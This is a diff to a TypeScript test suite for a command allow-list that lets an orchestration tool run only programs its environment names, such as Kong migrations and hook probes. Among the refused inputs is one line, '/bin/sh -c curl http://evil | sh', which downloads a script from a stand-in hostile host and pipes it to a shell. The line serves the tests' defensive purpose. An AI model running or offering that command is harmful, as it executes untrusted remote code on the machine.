@@ -33,7 +33,7 @@ test.each(subjects.map((subject) => [subject.strategy, subject] as const))(
 test("T36: what the environment does not name is not started, whoever wrote it into a plan", () => {
   const [node] = environment.nodes;
   expect(mayRun([node?.kong ?? "", "migrations", "up"])).toBe(true);
-  for (const argv of [
+  const foreign: readonly (readonly string[])[] = [
     ["/bin/sh", "-c", "curl http://evil | sh"],
     ["/tmp/kong", "migrations", "up"],
     ["kong", "migrations", "up"],
@@ -44,9 +44,8 @@ test("T36: what the environment does not name is not started, whoever wrote it i
     ["PG_DUMP"],
     [""],
     [],
-  ]) {
-    expect({ argv, mayRun: mayRun(argv) }).toEqual({ argv, mayRun: false });
-  }
+  ];
+  expect(foreign.filter((argv) => mayRun(argv))).toEqual([]);
   expect(whyForbidden({ argv: ["/bin/sh"] }, environment, {})).toContain("names no program “/bin/sh”");
 });
 
@@ -57,6 +56,24 @@ test("a hook may have a version in its program's name, and nothing that leads el
   expect(why("/opt/kong-3.4.2/install")).toBeUndefined();
   expect(why("/opt/kong-3.4.2/../../bin/install")).toContain("names no program");
   expect(why("/opt/kong-/install")).toContain("names no program");
+});
+
+test("what a hook brings to prove itself and what tells the traffic may be started as well", () => {
+  const hooks = {
+    stop: { argv: ["/opt/stop"], timeoutMs: 1_000, probe: { argv: ["sudo", "-n", "/opt/is-down"], timeoutMs: 1_000 } },
+  };
+  const own = sampleEnvironment({ hooks, metrics: { from: "command", argv: ["/opt/figures"], timeoutMs: 1_000 } });
+  const commands = [{ ...shell(""), argv: ["/opt/stop"], probe: hooks.stop.probe }];
+  expect(whyStepForbidden(createStep({ action: { kind: "commands", commands } }), own, {})).toBeUndefined();
+  expect(whyForbidden({ argv: ["/opt/figures"] }, own, {})).toBeUndefined();
+  const [command] = commands;
+  const changed = createStep({
+    action: {
+      kind: "commands",
+      commands: [{ ...shell(""), ...command, probe: { argv: ["/opt/other"], timeoutMs: 1 } }],
+    },
+  });
+  expect(whyStepForbidden(changed, own, {})).toContain("/opt/other");
 });
 
 test("T36: a list of its own takes the place of what the environment names, letter by letter", () => {
